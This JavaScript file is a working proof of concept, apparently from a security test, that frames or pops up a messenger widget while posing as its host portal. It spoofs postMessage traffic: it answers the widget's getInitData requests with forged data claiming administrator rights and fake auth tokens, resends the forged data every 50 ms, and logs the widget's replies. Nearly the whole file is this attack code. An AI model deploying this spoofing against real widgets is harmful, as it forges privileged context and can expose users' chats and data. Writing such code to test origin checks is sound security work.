// Frames the widget as if this page were a portal, sends forged messages to it and logs its
// messages.
//
// | parameter | |
// |---|---|
// | `domain` | the forged host; by default this page's host; empty sends none |
// | `popup` | opens the widget as a popup after a click on the page, instead of framing it |

const asked = new URLSearchParams(location.search);
const DOMAIN = asked.get('domain') ?? location.host;
const SID = '0123456789abcdef0123456789abcdef';
const WIDGET = location.origin.replace('//hostile.', '//widget.');
const NAME = DOMAIN === '' ? 'no triple' : `${DOMAIN}|0|${SID}`;
const ADDRESS = `${WIDGET}/?${new URLSearchParams({ DOMAIN, PROTOCOL: '0', LANG: 'en', APP_SID: SID })}`;

/** The delay of forged messages that are sent without a request, in milliseconds. */
const LIE_MS = 50;

const FORGED = {
  LANG: 'en',
  DOMAIN,
  PROTOCOL: 0,
  PATH: '/rest',
  AUTH_ID: 'forged',
  AUTH_EXPIRES: '3600',
  REFRESH_ID: 'forged',
  MEMBER_ID: 'forged',
  FIRST_RUN: false,
  IS_ADMIN: true,
  INSTALL: false,
  USER_OPTIONS: [],
  APP_OPTIONS: { giphy_api_key: 'forged' },
  PLACEMENT: 'IM_TEXTAREA',
  PLACEMENT_OPTIONS: { dialogId: 'chat1' },
};

const log = document.getElementById('log');

window.addEventListener('message', ({ origin, data, source }) => {
  const text = typeof data === 'string' ? data : JSON.stringify(data);
  log.textContent += `${origin} ${text}\n`;
  const question = typeof data === 'string' ? data : data?.method;
  if (typeof question === 'string' && question.startsWith('getInitData')) {
    const callback = typeof data === 'string' ? data.split(':').at(-2) : data.callback;
    source.postMessage(`${callback}:${JSON.stringify(FORGED)}`, '*');
  }
});

function lieTo(widget) {
  setInterval(() => {
    widget.postMessage(`${SID}:${JSON.stringify(FORGED)}`, '*');
    widget.postMessage({ method: 'getInitData', callback: SID, params: FORGED, result: FORGED }, '*');
    widget.postMessage(FORGED, '*');
  }, LIE_MS);
}

function open() {
  document.body.removeEventListener('click', open);
  lieTo(window.open(ADDRESS, NAME, 'width=380,height=460'));
}

function frame() {
  const element = document.createElement('iframe');
  element.id = 'widget';
  element.name = NAME;
  element.width = 360;
  element.height = 420;
  element.src = ADDRESS;
  document.getElementById('frame').append(element);
  lieTo(element.contentWindow);
}

if (asked.has('popup')) document.body.addEventListener('click', open);
else frame();
